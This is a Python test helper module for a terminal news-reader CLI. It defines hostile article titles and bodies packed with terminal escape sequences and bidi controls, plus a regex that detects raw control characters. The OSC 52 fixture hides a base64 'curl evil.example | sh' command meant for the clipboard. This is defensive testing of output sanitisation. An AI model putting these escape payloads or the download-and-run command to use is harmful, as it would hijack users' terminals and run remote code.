"""What the hostile tests share: the CLI as a user runs it, and a check for raw controls."""

from __future__ import annotations

import re
import sqlite3
from pathlib import Path

from click.testing import CliRunner, Result

from tui.cli import main

# What a terminal may act on: C0 but newline and tab, DEL, C1, bidi embeddings, overrides
# and isolates (they reorder the rest of a line), and lone surrogates.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
# An article whose every field tries to take over the terminal: OSC 52 sets the clipboard,
# OSC 0 retitles the window, CSI 2J clears the screen, 0x9b is the one-byte CSI, BEL rings,
# U+202E shows the rest of a line reversed and U+2067 opens an isolate never closed.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
HOSTILE_TITLE = f"Harbour{OSC52} cranes\x1b]0;pwned\x07 return\u202e\x1b[2J\x9b31m"
HOSTILE_BODY = (
    "The harbour's container cranes\x1b[2J are \u2067back at work after a winter refit, the port "
    f"authority said on Friday.{OSC52}\r\n\r\nThe third crane\x9b1;1H is due back in April; "
    "until then larger ships will be unloaded on the night shift.\x07\x08"
)


def cli(*args: str, input: str | None = None) -> Result:
    """Run `newsdesk ARGS` in-process, as a user would, with stdout and stderr apart."""
    return CliRunner().invoke(main, list(args), input=input)


def raw_controls(text: str) -> list[str]:
    """The control characters a terminal would act on, found in some output."""
    return RAW_CONTROL.findall(text)


def poison_store(home: Path, article_id: str, **fields: str) -> None:
    """Write fields straight into library.db, as a library from before cleaning holds them."""
    sets = ", ".join(f"{name} = ?" for name in fields)
    with sqlite3.connect(home / "library.db") as db:
        db.execute(f"UPDATE articles SET {sets} WHERE id = ?", [*fields.values(), article_id])
